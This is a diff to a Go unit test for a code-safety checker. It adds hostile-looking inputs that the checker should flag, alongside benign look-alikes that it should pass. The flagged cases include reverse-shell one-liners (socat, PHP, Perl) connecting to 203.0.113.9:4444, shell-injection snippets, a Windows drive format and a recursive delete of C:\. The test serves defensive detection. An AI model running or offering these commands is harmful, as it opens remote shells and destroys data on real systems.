@@ -33,6 +33,14 @@ func TestCodeClasses(t *testing.T) {
 		"data = yaml.unsafe_load(body)":                                                        RuleCodeDeserial,
 		"cat disk.img > /dev/sda":                                                              RuleCodeBlockDevice,
 		"obj = torch.load(upload)":                                                             RuleCodeDeserial,
+		"socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr":                           RuleCodeReverseShell,
+		`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`:           RuleCodeReverseShell,
+		`perl -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec("/bin/sh -i");'`:          RuleCodeReverseShell,
+		"out = `grep #{params[:q]} /var/log/app.log`":                                          RuleCodeShell,
+		`new ProcessBuilder("sh", "-c", cmd).start();`:                                         RuleCodeShell,
+		`os.system("/bin/tar xvzf *")`:                                                         RuleCodeShell,
+		"format C: /q /y":                                                                      RuleCodeDiskWipe,
+		`del /s /q C:\*`:                                                                       RuleCodeRmRoot,
 	}
 	for in, rule := range bad {
 		if !hasRule(CheckCode(in), rule) {
@@ -52,6 +60,12 @@ func TestCodeClasses(t *testing.T) {
 		"dd if=/dev/zero of=disk.img bs=1M count=10",
 		"shutil.rmtree(build_dir)",
 		"Blue mug #2, dd-mm-yyyy format",
+		"socat TCP-LISTEN:8080,fork TCP:localhost:80",
+		"puts `ls -la`",
+		`new ProcessBuilder("git", "status").start();`,
+		"chmod 644 *",
+		`del /s /q build\*`,
+		"The socket() call returns a descriptor; see the /bin/sh manual.",
 	}
 	for _, in := range good {
 		if f := CheckCode(in); len(f) > 0 {
